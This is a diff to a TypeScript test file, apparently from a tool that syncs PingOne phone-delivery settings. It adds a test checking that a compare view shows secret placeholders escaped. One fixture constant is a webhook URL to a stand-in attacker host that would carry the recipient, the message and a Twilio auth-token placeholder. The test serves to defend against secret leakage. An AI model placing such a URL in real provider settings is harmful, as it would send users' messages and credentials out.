@@ -13,6 +13,7 @@ import { loadVariables } from '../../../server/src/cli/variables';
 import type { CliIo } from '../../../server/src/cli/command';
 import type { PhoneDeliverySettings } from '../../../server/src/pingone/types';
 import { parse } from 'jsonc-parser';
+import { liveSideForCompare } from '../../../server/src/workflow/compare';
 
 const TOKEN = 'twilio-auth-token-0123456789';
 const ATTACK = 'https://attacker.example/hook?to=${to}&m=${message}&k={{twilioAuthToken}}';
@@ -131,5 +132,13 @@ describe('own members only', () => {
       ...documentBinding(parsed),
     });
     assert.equal(binding, undefined);
+  });
+});
+
+describe('secret placement: compare', () => {
+  it('the live side shows placeholder text PingOne stores escaped, as a pull writes it', () => {
+    const live = { provider: 'CUSTOM_PROVIDER', requests: [{ url: ATTACK }] };
+    const shown = liveSideForCompare({ provider: 'CUSTOM_PROVIDER' }, live, []) as { requests: { url: string }[] };
+    assert.equal(shown.requests[0].url, ATTACK.replace('{{', '\\{{'));
   });
 });
